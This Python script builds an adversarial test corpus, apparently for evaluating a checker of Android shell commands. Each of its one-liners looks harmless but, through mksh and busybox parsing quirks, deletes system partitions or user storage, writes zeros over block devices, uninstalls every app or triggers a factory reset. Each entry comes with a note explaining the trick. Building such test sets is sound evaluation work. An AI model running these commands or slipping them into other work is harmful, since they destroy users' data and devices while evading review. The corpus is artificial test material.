#!/usr/bin/env python3
"""Round 8, attacker A (the shell language): the corpus as Python data.

Writes corpus.jsonl next to this file. No command text goes through a host shell; every line
is run only inside the tests/sandbox jail (prove.py).
"""
import json
import pathlib

HERE = pathlib.Path(__file__).resolve().parent

L = []


def add(family, cmd, note, shells=None, why=None):
    row = {"family": family, "cmd": cmd, "note": note}
    if shells:
        row["shells"] = shells
        row["shells_why"] = why
    L.append(row)


# ---------------------------------------------------------------- bytes
add("bytes", "cd /data/local/tmp && X='ü/system_ext' && rm -rf -- \"${X#??}\"",
    "A non-interactive shell is never in UTF-8 mode (mksh turns utf8-mode on only for an "
    "interactive shell; busybox in the C locale), so `?` matches one BYTE. `ü` is two bytes: "
    "`${X#??}` strips only the `ü` and leaves the absolute /system_ext. A reader that counts "
    "characters strips `ü/` and reads the relative `system_ext` under /data/local/tmp.")
add("bytes", "L='crème brûlée'; S=/data/local/tmp/vendor; rm -rf \"${S:${#L}}\"",
    "`${#L}` is a byte count: 'crème brûlée' is 12 characters but 15 bytes, so `${S:15}` is "
    "/vendor. A reader that counts characters takes `${S:12}` = `tmp/vendor`, a relative path "
    "under / that does not exist.")
add("bytes", "cd /data/local/tmp && X='Ä/odm/Ö' && rm -rf \"${X:2:4}\"",
    "Substring offsets count bytes: `Ä` is two bytes, so `${X:2:4}` is `/odm` (the ODM image). "
    "A reader that counts characters takes `odm/`, relative to /data/local/tmp.")
add("bytes", "U='€'; rm -rf /storage/emulated/$(( ${#U} - 3 ))/DCIM",
    "`${#U}` is 3 (the euro sign is three bytes in UTF-8), so the user number is 0 and DCIM of "
    "the user's storage is deleted. A reader that counts one character computes user -2, which "
    "does not exist.")

# ---------------------------------------------------------------- nomatch
add("nomatch", "for f in /sdcard/DCIM/*.tmp; do rm -rf \"${f%\\*.tmp}\"; done",
    "A glob that matches nothing stays the literal word. There is no .tmp file in DCIM, so the "
    "loop runs once with f='/sdcard/DCIM/*.tmp', and `${f%\\*.tmp}` (a literal star) strips "
    "that tail: rm -rf /sdcard/DCIM/, the whole folder. For a real match the pattern removes "
    "nothing and only that file would go.")
add("nomatch", "for f in /data/data/*/cache/*.bak; do rm -rf \"${f%%/\\**}\"; done",
    "No app has a .bak file in its cache, so the glob stays literal and f is "
    "'/data/data/*/cache/*.bak'. `${f%%/\\**}` removes the longest tail that starts with a "
    "literal `/*`: what is left is /data/data, every app's data.")
add("nomatch", "for l in /data/misc/*.lck; do rm -rf \"${l%\\**}\"; done",
    "Stale-lock cleanup that never meets a lock: the unmatched glob is kept as text, and "
    "stripping from its literal `*` leaves /data/misc/, which is deleted (system state).")

# ---------------------------------------------------------------- mksh arrays
MW = "mksh arrays (set -A / set +A / read -A); busybox has none"
add("mksh-array", "set -A T /data/local/tmp/a /product; set +A T /data/local/tmp/b; rm -rf \"${T[@]}\"",
    "`set +A` (mksh) overwrites the first elements WITHOUT unsetting the array first: T is "
    "(/data/local/tmp/b /product), and the rm deletes the product image. A reader that takes "
    "`set +A` as a new array sees one scratch path.", ["mksh"], MW)
add("mksh-array", "set -A P com.example.app com.whatsapp com.spotify.music com.google.android.gms; P=com.example.app; for p in \"${P[@]}\"; do pm clear \"$p\"; done",
    "A scalar assignment to an array name only sets element 0; the other three stay. The loop "
    "clears four packages (mass clear). A reader that takes `P=…` as replacing the array sees "
    "one.", ["mksh"], MW)
add("mksh-array", "read -A D <<'E'\n/data/local/tmp/a /data/local/tmp/b /data/system\nE\nset +A D /data/local/tmp/c /data/local/tmp/d\nrm -rf \"${D[@]}\"",
    "`read -A` fills an array from a quoted here-document; `set +A` then replaces only two of "
    "its three elements, so /data/system is still the third and is deleted.", ["mksh"], MW)

# ---------------------------------------------------------------- busybox glob corners
add("bb-caret", "rm -rf /data/[^l]*",
    "busybox sh's glob takes `[^l]` as a negated class (everything in /data except local: app, "
    "data, misc, system, user_de …). mksh takes `^` as an ordinary member of the class, so in "
    "mksh this deletes only /data/local.", ["busybox"],
    "`[^…]` negates in busybox's glob only; mksh negates with `[!…]` and reads `^` literally")
add("bb-caret", "rm -rf /sdcard/[^.]*",
    "busybox: every entry of the storage that does not start with a dot (DCIM, Download, …). "
    "mksh reads the class as {^, .}: no name matches, the word stays literal and nothing is "
    "deleted.", ["busybox"],
    "`[^…]` negates in busybox's glob only; mksh reads `^` literally")
add("bb-glob-escape", "B='\\vendor'; rm -rf /$B*",
    "A backslash that comes out of a variable is literal in mksh, but busybox's glob still "
    "treats it as an escape: the pattern `/\\vendor*` matches /vendor. In mksh the pattern "
    "matches nothing and stays literal.", ["busybox"],
    "busybox globbing honours a backslash produced by an expansion; mksh does not")
add("bb-glob-escape", "for n in '\\system' '\\misc'; do rm -rf /data/$n*; done",
    "Windows-looking names with a leading backslash: busybox's glob drops the backslash as an "
    "escape, so /data/system and /data/misc are deleted. mksh keeps it literal and matches "
    "nothing.", ["busybox"],
    "busybox globbing honours a backslash produced by an expansion; mksh does not")

# ---------------------------------------------------------------- trap reset
add("trap-reset", "trap 'rm -rf /odm' EXIT; echo working; trap EXIT",
    "`trap EXIT` with a single operand does not reset the trap in mksh (POSIX: only a leading "
    "number or `-` resets); the armed EXIT trap still deletes /odm at exit. busybox resets it.",
    ["mksh"], "mksh keeps the trap for `trap SIGNAL`; busybox resets it")
add("trap-reset", "trap 'dd if=/dev/zero of=/dev/block/by-name/misc count=1' USR1; trap USR1; kill -USR1 $$",
    "The trap looks disarmed by `trap USR1`, but mksh keeps it, so the signal writes zeros over "
    "the misc partition. (busybox resets it and the signal ends the shell.)",
    ["mksh"], "mksh keeps the trap for `trap SIGNAL`; busybox resets it")

# ---------------------------------------------------------------- EXIT trap inside $( )
add("subst-trap", "T=$(trap 'echo /vendor' EXIT; echo /data/local/tmp/vendor); rm -rf $T",
    "A command substitution is a subshell with its own EXIT trap, and what the trap prints is "
    "captured too: T is '/data/local/tmp/vendor⏎/vendor', and both are deleted.")
add("subst-trap", "P=$( (trap 'pm list packages | cut -d: -f2' EXIT; echo com.example.app) ); for p in $P; do pm uninstall $p; done",
    "The EXIT trap of the inner subshell adds the whole package list to the captured output: "
    "the loop uninstalls every package on the device, not one.")
add("subst-trap", "A=$(trap 'echo MASTER_CLEAR' EXIT; echo BOOT_COMPLETED); am broadcast -a android.intent.action.${A#*[!A-Z_]}",
    "A is 'BOOT_COMPLETED⏎MASTER_CLEAR' (the trap's output is captured after the echo); "
    "`${A#*[!A-Z_]}` cuts through the newline and leaves MASTER_CLEAR: a factory reset. A reader "
    "that takes A=BOOT_COMPLETED sees the pattern match nothing.")

# ---------------------------------------------------------------- redirections that still happen
add("dead-redirect", "cat /data/local/tmp/log.txt >/data/misc/wifi/WifiConfigStore.xml >/dev/null",
    "Two redirections of stdout: the last one wins for the output, but the shell opens (and "
    "truncates) the first one as well. The wifi store is emptied. A reader that keeps only the "
    "effective target sees output to /dev/null.")
add("dead-redirect", "cd /data/local/tmp/staging >/data/system/users/0.xml 2>/dev/null || echo no staging dir",
    "The redirection is performed before the builtin runs, even though cd then fails: the user "
    "record 0.xml is truncated.")
add("dead-redirect", "LOG=/data/local/tmp/run.log >/product/build.prop",
    "An assignment-only command with a redirection: it reads like setting a log path, but the "
    "redirection is still opened and truncates /product/build.prop.")

# ---------------------------------------------------------------- status masked by local/export/readonly
add("status-mask", "f() { local d=$(ls -d /data/local/tmp/staging 2>/dev/null) || return 1; cd \"$d\" && rm -rf -- *; }; f",
    "The status of `local d=$(…)` is local's (0), not the substitution's, so `|| return 1` never "
    "fires. d is empty, `cd \"\"` stays in / (adbd's directory) and `rm -rf -- *` deletes every "
    "entry of /.")
add("status-mask", "readonly T=$(readlink /data/local/tmp/current) || exit 1; rm -rf \"/data/app/$T\"",
    "readonly's status masks the failed readlink: the guard `|| exit 1` does nothing, T is "
    "empty and the rm deletes /data/app/ (every installed app).")
add("status-mask", "export D=$(cat /data/local/tmp/target 2>/dev/null) || exit 1; rm -rf /storage/emulated/0/\"$D\"",
    "export's status is 0 whatever the substitution did. The file does not exist, D is empty, "
    "and the user's whole storage is deleted.")

# ---------------------------------------------------------------- background jobs snapshot the values
add("bg-snapshot", "T=/vendor; (sleep 1; rm -rf \"$T\") & T=/data/local/tmp/vendor; wait",
    "A background subshell is a copy of the shell taken when it starts; the reassignment after "
    "`&` does not reach it. It deletes /vendor a second later. A reader that takes the last "
    "value before `wait` sees a scratch path.")
add("bg-snapshot", "D=by-name/misc; { sleep 1; dd if=/dev/zero of=/dev/block/$D count=1 2>/dev/null; } & D=loop7; wait",
    "A backgrounded brace group is a subshell too: it keeps D=by-name/misc and zeroes the misc "
    "partition.")
add("bg-snapshot", "A=MASTER_CLEAR; (sleep 1; am broadcast -a android.intent.action.$A) & A=SCREEN_ON; wait",
    "The broadcast in the background job keeps the value it was started with: a factory reset, "
    "not SCREEN_ON.")

# ---------------------------------------------------------------- arithmetic is textual for $X
add("arith-text", "U=2-1; rm -rf /storage/emulated/$(( $U * 2 ))/Download",
    "`$U` inside `$(( ))` is pasted as text before evaluation: `2-1 * 2` is 0 (precedence), so "
    "this is user 0's Download. (`$((U*2))`, without the `$`, would be 2.) A reader that "
    "evaluates U first reads user 2, who does not exist.")
add("arith-text", "K=3+4; S=/data/local/tmp/odm; rm -rf \"${S:$(( $K * 3 ))}\"",
    "`3+4 * 3` is 15, the offset of /odm in S. A reader that takes K as 7 computes 21: an empty "
    "string.")
add("arith-text", "set -- SCREEN_ON MASTER_CLEAR SCREEN_OFF; K=1+0; shift $(( $K * 2 )); am broadcast -a android.intent.action.$1",
    "`1+0 * 2` is 1, so one shift leaves MASTER_CLEAR first: a factory reset. A reader that "
    "evaluates K first shifts two and reads SCREEN_OFF.")

# ---------------------------------------------------------------- let's exit status
add("let-status", "T=/system_ext; let tries=0 && T=/data/local/tmp/system_ext; rm -rf \"$T\"",
    "`let` returns 1 when its last expression is 0, so the `&&` reassignment is skipped and the "
    "rm deletes /system_ext.")
add("let-status", "A=FACTORY_RESET; let 'skip = 5 - 5' && A=BOOT_COMPLETED; am broadcast -a android.intent.action.$A",
    "The value of `skip` is 0, so let fails and A stays FACTORY_RESET.")

# ---------------------------------------------------------------- test with an empty unquoted operand
add("test-arity", "E=; [ -n $E ] && rm -rf /sdcard/Download/$E",
    "Unquoted and empty, `$E` disappears: `[ -n ]` is a one-argument test of the string '-n', "
    "which is true. The rm runs with /sdcard/Download/, the whole folder.")
add("test-arity", "[ -n $APP ] && rm -rf /data/user_de/0/$APP",
    "APP is not set, so `[ -n ]` is true and the rm deletes /data/user_de/0/ (every app's "
    "device-encrypted data).")

# ---------------------------------------------------------------- noclobber
add("noclobber", "set -C; T=/odm; echo checked >/data/local/tmp/log.txt && T=/data/local/tmp/odm; rm -rf \"$T\"",
    "With `set -C` (noclobber) the redirection onto an existing file fails, so the `&&` "
    "reassignment is skipped and T stays /odm.")
add("noclobber", "set -o noclobber; A=MASTER_CLEAR; date >/data/local/tmp/a.txt && A=DATE_CHANGED; am broadcast -a android.intent.action.$A",
    "noclobber makes `date >existing-file` fail; A is never changed from MASTER_CLEAR.")

# ---------------------------------------------------------------- busybox ${#@}
BL = "busybox takes `${#@}` / `${#*}` as the length of the joined parameters; mksh as their count"
add("bb-len", "set -- /data local tmp; S=/data/local/tmp/system; rm -rf \"${S:${#@}}\"",
    "In busybox `${#@}` is the length of '/data local tmp' (15), so the offset leaves /system. "
    "In mksh it is the count, 3, and the relative word `ta/local/tmp/system` does not exist.",
    ["busybox"], BL)
add("bb-len", "set -- 1 2; rm -rf /storage/emulated/$(( ${#*} - 3 ))/Music",
    "busybox: `${#*}` is the length of '1 2', 3, so the user is 0 and Music is deleted. mksh: "
    "the count 2 gives user -1.", ["busybox"], BL)

# ---------------------------------------------------------------- default prompt strings
add("ps-default", "eval \"echo '<packages/>' $PS2/data/system/packages.xml\"",
    "PS2 is set by the shell even when not interactive, to '> '. Pasted into eval it is a "
    "redirection: packages.xml is overwritten. A reader that does not know the default sees an "
    "echo of a prompt string.")
add("ps-default", "eval \"printf '%s\\n' --wipe_data ${PS2}/cache/recovery/command\"",
    "`${PS2}` is '> ', so eval runs `printf … > /cache/recovery/command`: the recovery command "
    "file asks for a data wipe.")

# ---------------------------------------------------------------- empty IFS joins with nothing
add("ifs-null", "IFS=; set -- /sys tem_ext; rm -rf \"$*\"",
    "With IFS set to the empty string, \"$*\" joins the parameters with NO separator: "
    "/system_ext. (Unset IFS joins with a space.)")
add("ifs-null", "IFS=; set -- MASTER _CLEAR; am broadcast -a \"android.intent.action.$*\"",
    "Empty IFS: \"$*\" is MASTER_CLEAR, a factory reset.")

# ---------------------------------------------------------------- words that look like assignments
add("not-assign", "T=/product; \"T\"=/data/local/tmp/product 2>/dev/null; rm -rf \"$T\"",
    "A quoted name is not an assignment: `\"T\"=…` is a command named 'T=/data/local/tmp/product' "
    "(not found). T keeps /product.")
add("not-assign", "U=/dev/block/by-name/boot; $NOP U=/data/local/tmp/boot.img 2>/dev/null; dd if=/dev/zero of=$U count=1",
    "Assignments are recognised before expansion and only before the command word: after the "
    "(empty) `$NOP`, `U=…` is the command name. U stays the boot partition.")
add("not-assign", "S=remove-user; S\\=list-users 2>/dev/null; pm $S 10",
    "An escaped `=` makes the word an ordinary command name, not an assignment: S stays "
    "remove-user and user 10 is removed.")

# ---------------------------------------------------------------- && and || have equal precedence
add("andor-prec", "T=/vendor; [ -d /data/local/tmp ] || echo no scratch dir && rm -rf \"$T\"",
    "`a || b && c` is `(a || b) && c` in the shell, not C's `a || (b && c)`: the test succeeds, "
    "so the rm runs and deletes /vendor.")
add("andor-prec", "getprop ro.debuggable | grep -q 1 || echo user build, skipping && cmd testharness enable",
    "The skip message does not guard anything: whatever grep says, the list ends with `&& cmd "
    "testharness enable` reached with status 0, which wipes the device.")

# ---------------------------------------------------------------- getopts: OPTIND is global in mksh
GW = "mksh keeps OPTIND across function calls; busybox resets getopts state per call"
add("getopts-optind", "clean() { DRY=; while getopts n o; do DRY=echo; done; shift $((OPTIND-1)); $DRY rm -rf \"$1\"; }; clean -n /data/local/tmp/a; clean -n /vendor",
    "OPTIND is not reset between calls: the second `getopts` starts at argument 2, never sees "
    "`-n`, so DRY stays empty and the second call really deletes /vendor.", ["mksh"], GW)
add("getopts-optind", "un() { D=; while getopts n o; do D=echo; done; shift $((OPTIND-1)); for p; do $D pm uninstall \"$p\"; done; }; un -n com.example.app; un -n com.whatsapp com.spotify.music com.example.other com.google.android.gms",
    "The dry run works once. In the second call getopts starts where the first stopped, `-n` is "
    "not seen, and four packages are uninstalled for real.", ["mksh"], GW)

# ---------------------------------------------------------------- exit statuses the shell makes up
add("status-code", "sudo true 2>/dev/null; rm -rf /storage/emulated/$(( $? - 127 ))/Pictures",
    "Android has no sudo: a command that is not found has status 127, so the user number is 0 "
    "and the Pictures folder of the user's storage is deleted.")
add("status-code", "/system/build.prop 2>/dev/null; rm -rf /storage/emulated/$(( $? % 7 ))/Documents",
    "A file that exists but is not executable gives status 126 (= 7 × 18), so `$? % 7` is 0: "
    "user 0's Documents folder.")
add("status-code", "sh -c 'kill $$'; dd if=/dev/zero of=/dev/block/mmcblk0p$(( $? - 130 )) count=1",
    "A child killed by SIGTERM reports 128+15 = 143, so the partition number is 13 (userdata).")

# ---------------------------------------------------------------- a for loop's list is fixed when it starts
add("loop-list", "set -- com.example.app com.whatsapp com.spotify.music com.example.other; for p; do pm clear \"$p\"; shift $#; done",
    "`for p` (no `in`) takes \"$@\" once, when the loop starts. `shift $#` empties the "
    "parameters but not the loop's list: all four packages are cleared, not one.")
add("loop-list", "set -- /data/local/tmp/old /product; for d; do rm -rf \"$d\"; set --; done",
    "`set --` inside the loop clears the parameters, not the list the loop already holds: the "
    "second round deletes /product.")

add("ps-default", "rm -rf /storage/emulated/$(( ${#PS2} - 2 ))/Movies",
    "PS2 has its default '> ' in a non-interactive shell too, so `${#PS2}` is 2 and the user is "
    "0: the Movies folder. A reader that takes PS2 as unset computes user -2.")

# ---------------------------------------------------------------- $'…' inside a double-quoted ${…:-word} (mksh)
DQ = "mksh decodes `$'…'` inside the word of a double-quoted `${X:-…}`; busybox keeps it literally"
add("dq-ansi", "rm -rf \"/data/local/tmp/${SUB:-$'\\x2e\\x2e/\\x2e\\x2e/\\x2e\\x2e'}/vendor\"",
    "Inside double quotes `$'…'` looks inert, but mksh decodes it in the default word of "
    "`${SUB:-…}`: the path is /data/local/tmp/../../../vendor, i.e. /vendor. busybox (and a "
    "reader that follows POSIX) keeps the text and names a missing folder under tmp.",
    ["mksh"], DQ)
add("dq-ansi", "am broadcast -a \"android.intent.action.${ACT:-$'\\x4d'ASTER_CLEAR}\"",
    "mksh decodes `$'\\x4d'` to M inside the double-quoted default: the action is MASTER_CLEAR "
    "(factory reset). Read literally it is `$'\\x4d'ASTER_CLEAR`, which is no action.",
    ["mksh"], DQ)


def main():
    out = HERE / "corpus.jsonl"
    out.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in L))
    print(f"{len(L)} lines -> {out}")


if __name__ == "__main__":
    main()
